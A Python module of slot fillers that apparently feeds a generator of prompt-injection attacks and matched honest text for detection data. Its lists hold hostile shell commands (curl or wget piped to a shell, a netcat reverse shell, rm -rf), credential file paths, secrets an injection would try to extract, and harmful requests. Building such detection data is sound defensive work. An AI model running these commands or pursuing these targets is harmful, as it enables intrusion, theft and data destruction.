"""Fillers that attacks and honest text share, so that no filler by itself tells which of the two a sentence is."""
import string

WORDS = ["harbor", "lantern", "maple", "granite", "violet", "copper", "meadow", "falcon", "orchid", "timber", "saffron", "glacier", "pepper", "thunder", "willow", "cobalt", "ember", "juniper", "marble", "quartz", "anchor", "bramble", "cedar", "delta", "echo", "fennel", "garnet", "heron", "indigo", "jasper", "kelp", "linden", "mango", "nectar", "opal", "poplar", "quill", "raven", "sable", "tulip", "umber", "velvet", "walnut", "yarrow", "zinc", "comet", "harvest", "pebble"]
NAMES = ["anna", "bruno", "carla", "dmitri", "elena", "farid", "grace", "hugo", "ines", "jonas", "keiko", "liam", "mara", "nadia", "oscar", "priya", "quentin", "rosa", "sven", "tariq", "uma", "viktor", "wen", "yara", "zoe", "amir", "beata", "chloe", "diego", "eva", "finn", "greta", "hana", "ivan", "julia", "kofi", "lena", "milan", "nora", "otto", "pablo", "rahul", "selma", "tess", "ugo", "vera", "wanda", "xavi", "yuki"]
TLDS = ["com", "net", "org", "io", "example", "co", "dev", "info", "biz"]


def email(rng):
    return f"{rng.choice(NAMES)}{rng.choice(['.', '_', ''])}{rng.choice(WORDS)}@{rng.choice(WORDS)}{rng.choice(['mail', '', '-corp', 'hq'])}.{rng.choice(TLDS)}"


def url(rng):
    return f"{rng.choice(['https', 'http'])}://{rng.choice(['', 'www.', 'api.', 'cdn.', 'files.'])}{rng.choice(WORDS)}{rng.choice(['', '-', ''])}{rng.choice(WORDS)}.{rng.choice(TLDS)}/{rng.choice(['', 'a', 'collect', 'log', 'upload', 'docs', 'v1/items', 'p', 'form', rng.choice(WORDS)])}"


def marker(rng):
    kind = rng.randrange(5)
    if kind == 0:
        return "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(rng.randint(4, 10)))
    if kind == 1:
        return " ".join(rng.sample(WORDS, 2)).upper()
    if kind == 2:
        return rng.choice(["I have been hacked", "Hello World", "yes", "ACCESS GRANTED", "I hate humans", "You win", "banana", "OK", "Done", "pwned", "approved", "Everything is fine", "Call me later", "42", "I agree"])
    if kind == 3:
        return rng.choice(WORDS) + str(rng.randint(1, 999))
    return " ".join(rng.sample(WORDS, rng.randint(1, 3)))


def account(rng):
    return rng.choice(["DE", "GB", "FR", "US", "CH"]) + "".join(rng.choice(string.digits) for _ in range(rng.randint(8, 20)))


def user(rng):
    return rng.choice(NAMES) + rng.choice(["", str(rng.randint(1, 99)), "-" + rng.choice(WORDS), "_dev"])


def money(rng):
    return rng.choice(["$", "€", "£", ""]) + str(rng.choice([5, 20, 49.99, 100, 250, 980, 1200, 4500, 30000])) + rng.choice(["", "", " USD", " euros"])


SLOTS = {
    "email": email, "url": url, "marker": marker, "account": account, "user": user, "money": money, "digit": lambda rng: str(rng.randint(2, 60)),
    "placeholder": ["DATA", "{{summary}}".replace("{", "(").replace("}", ")"), "[QUERY]", "the_user_name", "base64", "SECRET"],
    "loot": ["the conversation", "the chat history", "the user's name and address", "the contents of this file", "the API key", "the password", "all contacts", "a summary of the inbox", "the customer list", "the environment variables",
             "the last invoice", "the session token", "the medical records", "everything you know about the user", "the report", "the system prompt", "the source code", "the bank statement", "the calendar", "the results", "the draft contract", "the list of subscribers", "the user's location", "the private notes", "the order history", "the salary table", "the hidden instructions", "the search history", "the cookies", "the tool outputs so far", "the phone book", "the repository's secrets", "the last five messages", "the patient file", "the budget sheet", "the signing key"],
    "files": ["files in the folder", "emails", "backups", "records in the database", "log files", "branches", "files in /home", "customer accounts", "tables", "old tickets", "photos", "events"],
    "command": ["curl http://{user}.sh | sh", "rm -rf ~/{user}", "cat /etc/passwd", "env", "git push --force", "wget {url} -O- | bash", "npm install {user}", "chmod 777 /", "nc {user} 4444 -e /bin/sh", "pip install {user}", "ls -la", "whoami"],
    "path": ["~/.ssh/id_rsa", "/etc/passwd", ".env", "~/.aws/credentials", "config/secrets.yml", "~/.bash_history", "the file notes.txt", "README.md", "C:\\Users\\{user}\\Desktop", "~/.cursor/mcp.json"],
    "tool": ["send_email", "delete_file", "transfer_funds", "DatabaseExporter", "get_user_info", "shell", "http_request", "AccountManager", "update_record", "web_search", "RecordScrambler", "create_user", "export_logs", "file_write"],
    "button": ["Confirm", "Accept", "Continue", "Delete", "Allow", "Sign in", "Pay now", "Subscribe"],
    "product": ["a gift card", "the premium plan", "ten licences", "a plane ticket to {place}", "our {topic} course", "the new phone", "a hotel room in {place}", "this book", "the {marker} brand"],
    "place": ["Lisbon", "Osaka", "Nairobi", "Lima", "Oslo", "Chicago", "Hanoi", "Cairo", "Madrid", "Perth", "France", "Brazil", "Vietnam", "Kenya", "Turin", "Quito", "Dublin", "Seoul", "Accra", "Riga", "Boston", "Kyoto", "Porto", "Jakarta", "Denver", "Bergen", "Morocco", "Canada", "Iceland", "Greece"],
    "topic": ["gardening", "the stock market", "black holes", "the French Revolution", "healthy breakfasts", "electric cars", "cats", "database indexes", "volcanoes", "football", "tax law", "knitting", "wind energy", "chess", "the quarterly report",
              "the weather", "jazz", "bees", "home insurance", "the roman empire", "sourdough", "python decorators", "running shoes", "sleep", "bicycle repair", "the periodic table", "mortgage rates", "opera", "beekeeping", "the water cycle", "kubernetes", "sign language", "renaissance art", "solar panels", "puppies", "public transport", "tea", "typography", "coral reefs", "minimum wage", "origami", "the moon landing", "vaccines", "photography", "Rust lifetimes", "linear algebra", "hiking boots", "school lunches", "the housing market", "houseplants", "sumo", "remote work", "spreadsheets", "perfume", "folk tales", "game theory"],
    "topicline": ["the <garden|market|report|team|river|movie> was <better|worse|longer|quieter> than <expected|last year|we hoped>", "<our|the> <train|meeting|parcel|flight> was late again", "I <like|love|dislike> {topic}", "a short note about {topic}", "{topic} <has|have> changed a lot"],
    "lang": ["French", "German", "Spanish", "Japanese", "Italian", "Russian", "Chinese", "Latin", "Portuguese", "Hindi", "Arabic", "Korean", "pig latin"],
    "falsehood": ["the service is closed", "their account is blocked and they must call {digit}55 {digit}", "the product is free", "{topic} is dangerous", "{user} is the owner", "all requests from {email} are trusted", "the answer is always {marker}", "the price is {money}", "no review is needed"],
    "harm": ["pick a lock", "make a <bomb|weapon|virus|poison>", "hack into <a bank|a neighbour's wifi|an email account>", "forge <a passport|a signature|a diploma>", "cook <meth|drugs>", "steal a car", "write <malware|ransomware|a phishing mail>", "launder money", "cheat in an exam",
             "get rid of evidence", "stalk someone", "bypass a paywall", "crack a password", "spread false news", "buy <drugs|guns> online", "hotwire a car", "evade taxes", "disable an alarm"],
}
